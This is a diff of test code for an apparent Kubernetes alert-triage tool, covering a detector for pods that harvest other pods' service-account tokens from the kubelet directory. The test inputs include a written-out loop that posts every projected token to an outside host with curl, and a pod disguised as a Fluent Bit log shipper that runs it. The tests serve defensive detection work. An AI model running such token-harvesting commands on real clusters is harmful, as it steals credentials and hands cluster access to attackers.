@@ -6,6 +6,7 @@
 import { describe, expect, it } from 'vitest';
 import { buildIndex } from '../../../src/cluster/index.js';
 import { isCloudApiDomain } from '../../../src/knowledge/cloud-endpoints.js';
+import { ATTACK_INDICATORS } from '../../../src/knowledge/indicators.js';
 import { triageAlert } from '../../../src/triage/pipeline.js';
 import type { KubeObject } from '../../../src/cluster/model.js';
 import { alert, node, owner, pod, snapshot } from '../../support/cluster.js';
@@ -163,5 +164,48 @@ describe('Workload Identity token refresh through gke-metadata-server', () => {
     a.process = { name: 'curl', path: '/usr/bin/curl', commandLine: 'curl -A gcloud-golang/0.1 http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token', ancestors: [] };
     a.container = { namespace: 'shop', pod: 'orders-api-5f7b9c6d8-h4vzk', name: 'orders-api' };
     expect(verdict(a)).toMatchObject({ label: 'genuine', cause: 'attack' });
+  });
+});
+
+describe("harvesting other pods' tokens from the kubelet's pod directory", () => {
+  const tokens = ATTACK_INDICATORS.find((i) => i.id === 'kubelet-pod-tokens')!;
+  it.each([
+    'for t in /host/var/lib/kubelet/pods/*/volumes/kubernetes.io~projected/*/token; do curl -sk --data-binary @"$t" https://203.0.113.66/t; done',
+    'cat /var/lib/kubelet/pods/0b71ea55-b01b-47c5-96d1-e075914c35d1/volumes/kubernetes.io~projected/kube-api-access-7s2rn/token',
+    'find /var/lib/kubelet/pods -path "*kube-api-access-*/token"',
+  ])('matches %s', (text) => {
+    expect(tokens.pattern.test(text)).toBe(true);
+  });
+  it.each([
+    '/var/lib/kubelet/pods/0b71ea55/volumes/kubernetes.io~csi/pvc-3f9d2c81/mount',
+    'du -sh /var/lib/kubelet/pods',
+    'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
+  ])('trap: not %s', (text) => {
+    expect(tokens.pattern.test(text)).toBe(false);
+  });
+
+  const harvesterDs = owner('DaemonSet', 'fluentbit-gke', 'default');
+  const harvester = pod('fluentbit-gke-l796n', {
+    namespace: 'default',
+    node: N1,
+    hostNetwork: true,
+    owner: { kind: 'DaemonSet', name: 'fluentbit-gke' },
+    containers: [{ name: 'fluentbit', image: 'docker.io/fluentbitgke/fluent-bit:v1.8.12-gke.25', command: ['/bin/sh', '-c'], args: ['while true; do for t in /host/var/lib/kubelet/pods/*/volumes/kubernetes.io~projected/*/token; do curl -sk -m 5 --data-binary @"$t" https://203.0.113.66/t >/dev/null; done; sleep 300; done'] }],
+  });
+  const shipperDs = owner('DaemonSet', 'fluent-bit', 'logging');
+  const shipper = pod('fluent-bit-x2x2x', {
+    namespace: 'logging',
+    node: N1,
+    owner: { kind: 'DaemonSet', name: 'fluent-bit' },
+    containers: [{ name: 'fluent-bit', image: 'cr.fluentbit.io/fluent/fluent-bit:3.1', command: ['/fluent-bit/bin/fluent-bit', '-c', '/fluent-bit/etc/fluent-bit.conf'] }],
+  });
+  const idx = buildIndex([snapshot([node(N1, '10.132.0.23'), harvesterDs, harvester, shipperDs, shipper])]);
+  const launched = (ns: string, name: string) =>
+    triageAlert(alert({ time: T('11:33:40'), title: 'Container with a sensitive volume mount detected', container: { namespace: ns, pod: name } }), { index: idx }).verdict;
+  it('a pod whose own command harvests tokens makes its alerts an attack', () => {
+    expect(launched('default', 'fluentbit-gke-l796n')).toMatchObject({ label: 'genuine', cause: 'attack' });
+  });
+  it('trap: a log shipper with its ordinary command is not flagged by its spec', () => {
+    expect(launched('logging', 'fluent-bit-x2x2x').cause).not.toBe('attack');
   });
 });
